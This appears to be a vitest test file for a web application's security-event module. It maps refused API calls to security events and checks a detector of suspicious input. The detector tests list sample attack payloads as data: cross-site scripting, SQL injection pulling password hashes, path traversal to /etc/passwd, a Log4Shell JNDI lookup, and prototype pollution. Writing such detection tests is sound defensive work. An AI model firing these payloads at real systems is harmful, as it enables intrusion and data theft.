import { expect, test } from 'vitest';
import { eventOfRefusal, eventOfSuccess, isSuspicious } from './events.ts';

const call = (name: string, needs = 'session') => ({ name, needs });

test.each([
  ['user.login', 'session.wrong-password', 'login.failed'],
  ['user.login', 'session.too-many-tries', 'login.locked'],
  ['user.secondFactor', 'second-factor.wrong', 'second-factor.failed'],
  ['user.passkeyLogin', 'session.challenge-over', 'second-factor.failed'],
  ['security.stepUp', 'password.wrong', 'step-up.failed'],
  ['user.changePassword', 'session.too-many-tries', 'limit.reached'],
  ['order.list', 'permission.denied', 'access.denied'],
  ['account.recharge', 'acting.money', 'access.denied'],
  ['order.detail', 'not-found', 'object.not-found'],
  ['order.processOrder', 'process.price-changed', null],
  ['account.confirm', 'session.step-up', null],
])('%s refused with %s is %s', (name, refusal, event) => {
  expect(eventOfRefusal(call(name), refusal)).toBe(event);
});

test('a failed public call belongs to no user', () => {
  expect(eventOfRefusal(call('order.track', 'public'), 'not-found')).toBe(null);
});

test('reading and everyday work are no security events', () => {
  expect(eventOfSuccess('order.list')).toBe(null);
  expect(eventOfSuccess('pack.scan')).toBe(null);
  expect(eventOfSuccess('role.assignPermissions')).toBe('rights.changed');
});

test.each([
  [{ name: '<script>alert(1)</script>' }],
  [{ filter: { keyword: `' or '1'='1` } }],
  [{ ids: ['1 UNION SELECT password_hash FROM users'] }],
  [{ path: '../../etc/passwd' }],
  [{ note: '${jndi:ldap://x/a}' }],
  [{ text: 'a\0b' }],
  [JSON.parse('{"__proto__": {"admin": true}}') as object],
])('%j looks like an attack', (input) => {
  expect(isSuspicious(input)).toBe(true);
});

test.each([
  [{ name: '' }],
  [{ note: 'Select two & drop at the table, or 1 = one' }],
  [{ note: "O'Neill and Sons; please alter the label" }],
  [{ price: -1, tags: ['a', 'b'], nested: { deep: null } }],
  ['text'],
  [null],
])('%j does not', (input) => {
  expect(isSuspicious(input)).toBe(false);
});
